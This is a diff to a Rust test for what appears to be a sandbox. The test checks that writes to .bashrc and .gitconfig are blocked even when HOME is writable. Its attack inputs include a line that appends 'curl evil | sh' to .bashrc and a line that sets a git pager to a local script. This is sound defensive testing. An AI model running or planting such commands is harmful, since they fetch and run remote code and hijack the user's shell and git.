@@ -433,14 +433,38 @@ fn shell_rc_files_and_the_global_gitconfig_are_read_only_when_home_is_writable()
             fs::write(h.join(".bashrc"), "# rc\n").unwrap();
             fs::write(h.join(".gitconfig"), "[user]\n\tname = t\n").unwrap();
             who.own(h);
-            for attack in [
+            for (i, attack) in [
                 "echo 'curl evil | sh' >> .bashrc",
                 "printf '[core]\\n\\tpager = ./p\\n' >> .gitconfig",
-            ] {
-                let out = exec(who, h, Some(&h.join(".gitconfig")), backend, h, &[], attack);
+            ]
+            .into_iter()
+            .enumerate()
+            {
+                // `$HOME` is the workspace here, so the default runtime dir
+                // (the proxy's socket) would lie in a writable root: the
+                // network is denied instead. The command must have run
+                // (its own file lands) and then failed on the protected
+                // one, not been refused before it started.
+                let script = format!("touch ran-{i} && {attack}");
+                let out = exec(
+                    who,
+                    h,
+                    Some(&h.join(".gitconfig")),
+                    backend,
+                    h,
+                    &["--network", "deny"],
+                    &script,
+                );
                 assert!(
-                    !out.status.success(),
-                    "{who:?} {backend}: `{attack}` succeeded"
+                    h.join(format!("ran-{i}")).exists(),
+                    "{who:?} {backend}: `{attack}` never ran: {}",
+                    String::from_utf8_lossy(&out.stderr)
+                );
+                assert!(
+                    !out.status.success() && out.status.code() != Some(125),
+                    "{who:?} {backend}: `{attack}`: {:?} {}",
+                    out.status,
+                    String::from_utf8_lossy(&out.stderr)
                 );
             }
             assert_eq!(fs::read_to_string(h.join(".bashrc")).unwrap(), "# rc\n");
